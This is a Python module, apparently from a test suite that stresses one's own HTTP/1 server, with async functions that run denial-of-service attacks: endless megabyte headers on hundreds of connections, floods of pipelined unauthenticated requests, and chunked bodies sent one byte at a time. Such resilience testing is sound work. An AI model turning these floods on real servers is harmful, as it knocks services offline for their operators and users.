"""Odd HTTP/1: heads that do not end, crowds of calls that are refused. By whoever reaches the port, without a token.

Each function attacks once and says in some words what came of it.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from typing import Final

from .target import HOSTILE, HOSTILE_ADDRESS, Target

SECONDS_MAX: Final = 20.0
CROWD_SECONDS: Final = 5.0  # how long a crowd goes on
LINES: Final = b"".join(b"X-%d: " % number + b"x" * 8000 + b"\r\n" for number in range(120))
CHUNKED: Final = (
    b"POST /api/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
)
CRUMBS: Final = b"1\r\n \r\n" * 20_000
REFUSED: Final = b"GET /api/webhooks HTTP/1.1\r\nHost: x\r\n\r\n"
BESIDE: Final = (
    b"/",
    b"/webhooks",
    b"/ui/app.js",
    b"/api/openapi.json",
    b"/api/caller",
    b"/metrics",
    b"/api/customers/7/jwks.json",
    b"/healthz",
)
AHEAD: Final = 16  # requests that are sent before the first answer is read

Attack = Callable[[Target, float], Awaitable[str]]


async def endless_heads(target: Target, scale: float) -> str:
    """HTTP/1: heads of a megabyte that do not end."""
    writers = [(await target.connect(target.http))[1] for _ in range(round(300 * scale))]
    taken = await _send_all(writers, b"GET / HTTP/1.1\r\nHost: x\r\n" + LINES)
    return f"{len(writers)} connections, {taken} took all of it"


async def pipelined_calls(target: Target, scale: float) -> str:
    """HTTP/1: calls without a token, many on each of hundreds of connections; all answers are read."""
    return await _pipelined(target, scale, REFUSED * AHEAD)


async def beside_the_methods(target: Target, scale: float) -> str:
    """HTTP/1: what is served to whoever asks, beside the methods, likewise."""
    heads = (b"GET " + path + b" HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip\r\n\r\n" for path in BESIDE)
    return await _pipelined(target, scale, b"".join(heads) * (AHEAD // len(BESIDE)))


async def _pipelined(target: Target, scale: float, requests: bytes) -> str:
    until, statuses = time.monotonic() + max(0.5, CROWD_SECONDS * scale), Counter[str]()

    async def one() -> None:
        reader, writer = await target.connect(target.http, HOSTILE_ADDRESS)
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while time.monotonic() < until:
                writer.write(requests)
                for _ in range(AHEAD):
                    statuses[await _answer(reader)] += 1

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(SECONDS_MAX):
            await asyncio.gather(*(one() for _ in range(round(400 * scale))))
    return ", ".join(f"{count} {status}" for status, count in statuses.items())


async def crumbs(target: Target, scale: float) -> str:
    """HTTP/1: bodies in chunks of one byte, without a token."""
    return await _crumbs(target, scale, CHUNKED + b"\r\n")


async def crumbs_with_token(target: Target, scale: float) -> str:
    """HTTP/1: bodies in chunks of one byte, with a token."""
    return await _crumbs(target, scale, CHUNKED + b"Authorization: Bearer " + HOSTILE.encode() + b"\r\n\r\n")


async def _crumbs(target: Target, scale: float, head: bytes) -> str:
    """Sends them on connections that are opened again when they are closed."""
    until, taken, opened = time.monotonic() + max(0.5, CROWD_SECONDS * scale), 0, 0

    async def one() -> None:
        nonlocal taken, opened
        while time.monotonic() < until:
            opened += 1
            with contextlib.suppress(OSError):  # TimeoutError, too: whoever is kept out tries again
                _, writer = await target.connect(target.http)
                try:
                    writer.write(head)
                    while time.monotonic() < until and not writer.is_closing():
                        writer.write(CRUMBS)
                        await writer.drain()
                        taken += len(CRUMBS) // 6
                finally:
                    writer.transport.abort()

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(SECONDS_MAX):
            await asyncio.gather(*(one() for _ in range(max(2, round(100 * scale)))))
    return f"{opened} connections, {taken} chunks taken"


async def _answer(reader: asyncio.StreamReader) -> str:
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
    await reader.readexactly(int(head.partition("content-length: ")[2].partition("\r\n")[0]))
    return head.split(" ")[1]


async def _send_all(writers: Sequence[asyncio.StreamWriter], data: bytes) -> int:
    """Sends the same on all connections; returns how many have taken it in time."""

    async def send(writer: asyncio.StreamWriter) -> None:
        for start in range(0, len(data), 65_536):
            writer.write(data[start : start + 65_536])
            await writer.drain()

    tasks = [asyncio.ensure_future(send(writer)) for writer in writers]
    done, late = await asyncio.wait(tasks, timeout=SECONDS_MAX)
    for task in late:
        task.cancel()
    await asyncio.gather(*late, return_exceptions=True)
    return sum(task.exception() is None for task in done)


REQUESTS: Final[tuple[Attack, ...]] = (endless_heads, pipelined_calls, beside_the_methods, crumbs, crumbs_with_token)
# This one attacks as long as its connections are open.
HELD_REQUESTS: Final = frozenset[Attack]((endless_heads,))
